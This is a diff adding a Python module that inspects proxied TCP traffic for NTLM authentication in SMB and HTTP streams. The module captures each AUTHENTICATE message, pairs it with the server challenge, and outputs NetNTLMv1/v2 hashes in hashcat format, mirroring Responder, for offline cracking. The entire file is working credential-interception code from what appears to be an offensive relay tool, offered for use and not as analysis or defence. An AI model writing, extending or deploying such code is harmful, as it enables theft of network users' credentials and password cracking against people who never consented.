@@ -0,0 +1,202 @@
+# ntlm_dissector.py
+#
+# Finds NTLMSSP messages in proxied TCP streams.
+#
+# The relay feeds each tunnel's FlowDissector with the bytes of every read
+# while the flow is in its handshake phase. Each direction keeps a small
+# window (the tail of the last read, or the message being assembled), so a
+# message split across reads is still found:
+#
+#   - raw NTLMSSP, as carried in SMB session setup (and SPNEGO blobs in
+#     general): the length of the message comes from its header and
+#     security buffers;
+#   - HTTP "Authorization: NTLM <base64>" and the WWW-/Proxy- variants,
+#     "Negotiate" tokens included: the token runs to the end of the line.
+#
+# A flow stops being inspected once it has carried an AUTHENTICATE message,
+# or INSPECT_BYTES in either direction with no message left half-read, so
+# bulk transfers after the handshake pay nothing.
+#
+# Only the AUTHENTICATE message is captured. It is paired with the server
+# challenge from the flow's CHALLENGE message and handed to the session
+# store as a hashcat line, the format Responder writes:
+#
+#   NetNTLMv2 (-m 5600)   user::domain:challenge:ntproofstr:blob
+#   NetNTLMv1 (-m 5500)   user::domain:lm_response:nt_response:challenge
+#
+# SESSION_STORE.submit() returns at once: storing it never happens on the
+# relay thread.
+
+from __future__ import annotations
+import base64
+import binascii
+import re
+import struct
+from typing import Callable, Dict, Optional
+
+from ntlmssp import (
+    AUTHENTICATE, CHALLENGE, NTLM_MAGIC, Authenticate, NTLMSSPError, message_length, parse,
+)
+
+# Bytes per direction inspected before a flow is left alone
+INSPECT_BYTES = 65536
+# Largest message or HTTP token assembled; anything longer is dropped
+MAX_MESSAGE = 65536
+
+_HTTP_AUTH = re.compile(rb"(?i:authorization|authenticate): *(?:NTLM|Negotiate) +")
+# Tail kept between reads while scanning: enough for a marker to straddle
+_KEEP = len(b"proxy-authorization: negotiate ")
+
+_SCAN, _RAW, _HTTP = range(3)
+
+_U32 = struct.Struct("<I")
+
+
+Sink = Callable[[str, str, str, bytes], object]
+
+
+def hash_line(msg: bytes, server_challenge: Optional[bytes]) -> Optional[bytes]:
+    """
+    The AUTHENTICATE message `msg` as a hashcat line, or None if it carries
+    no crackable response or the server challenge is unknown.
+    """
+    if server_challenge is None:
+        return None
+    try:
+        auth = parse(msg)
+    except NTLMSSPError:
+        return None
+    if not isinstance(auth, Authenticate) or auth.hash_type is None:
+        return None
+
+    user, domain = auth.user or "", auth.domain or ""
+    challenge = server_challenge.hex()
+    nt = bytes(auth.nt_response)
+    if auth.ntlmv2 is not None:
+        line = f"{user}::{domain}:{challenge}:{nt[:16].hex()}:{nt[16:].hex()}"
+    else:
+        line = f"{user}::{domain}:{bytes(auth.lm_response).hex()}:{nt.hex()}:{challenge}"
+    return line.encode()
+
+
+def submit_capture(src: str, dst: str, direction: str, msg: bytes) -> None:
+    # Imported on first use, so tools that only parse traffic never open
+    # the store
+    from sessions import SESSION_STORE
+
+    SESSION_STORE.submit(src, dst, direction, msg)
+
+
+class _Stream:
+    """
+    One direction of a flow.
+    """
+
+    __slots__ = ("buf", "mode", "seen")
+
+    def __init__(self) -> None:
+        self.buf = bytearray()
+        self.mode = _SCAN
+        self.seen = 0
+
+    def feed(self, data, emit: Callable[[bytes], None]) -> None:
+        self.seen += len(data)
+        buf = self.buf
+        buf += data
+        while True:
+            if self.mode == _SCAN:
+                i = buf.find(NTLM_MAGIC)
+                m = _HTTP_AUTH.search(buf, 0, i if i != -1 else len(buf))
+                if m is not None:
+                    del buf[:m.end()]
+                    self.mode = _HTTP
+                elif i != -1:
+                    del buf[:i]
+                    self.mode = _RAW
+                else:
+                    del buf[:-_KEEP]
+                    return
+
+            elif self.mode == _RAW:
+                n = message_length(buf)
+                if n == -1:
+                    # Magic but no message: look past it
+                    del buf[:len(NTLM_MAGIC)]
+                    self.mode = _SCAN
+                    continue
+                if n is None or len(buf) < n:
+                    return
+                emit(bytes(buf[:n]))
+                del buf[:n]
+                self.mode = _SCAN
+
+            else:
+                end = buf.find(b"\n")
+                if end == -1:
+                    if len(buf) > MAX_MESSAGE:
+                        buf.clear()
+                        self.mode = _SCAN
+                    return
+                token = bytes(buf[:end]).strip()
+                del buf[:end]
+                self.mode = _SCAN
+                try:
+                    blob = base64.b64decode(token, validate=True)
+                except (binascii.Error, ValueError):
+                    continue
+                i = blob.find(NTLM_MAGIC)
+                if i != -1:
+                    emit(blob[i:])
+
+    @property
+    def idle(self) -> bool:
+        # Not in the middle of a message or token
+        return self.mode == _SCAN
+
+
+class FlowDissector:
+    """
+    NTLMSSP inspection for one tunnel, both directions. Call feed() with
+    every read while `active`.
+    """
+
+    DIRECTIONS = ("client->server", "server->client")
+
+    def __init__(self, src: str, dst: str, sink: Optional[Sink] = None,
+                 inspect_bytes: int = INSPECT_BYTES) -> None:
+        self.src = src
+        self.dst = dst
+        self.sink = sink or submit_capture
+        self.inspect_bytes = inspect_bytes
+        self.active = True
+        self.messages = 0
+        # Server challenge from the latest CHALLENGE message
+        self._challenge: Optional[bytes] = None
+        self._streams: Dict[str, _Stream] = {d: _Stream() for d in self.DIRECTIONS}
+
+    def feed(self, direction: str, data) -> None:
+        if not self.active:
+            return
+        stream = self._streams[direction]
+        done = False
+
+        def emit(msg: bytes) -> None:
+            nonlocal done
+            self.messages += 1
+            msg_type = _U32.unpack_from(msg, 8)[0] if len(msg) >= 12 else None
+            if msg_type == CHALLENGE and len(msg) >= 32:
+                self._challenge = msg[24:32]
+            elif msg_type == AUTHENTICATE:
+                done = True
+                line = hash_line(msg, self._challenge)
+                if line is not None:
+                    self.sink(self.src, self.dst, direction, line)
+
+        stream.feed(data, emit)
+        streams = self._streams.values()
+        if done or (stream.seen >= self.inspect_bytes and all(s.idle for s in streams)):
+            self.stop()
+
+    def stop(self) -> None:
+        self.active = False
+        self._streams.clear()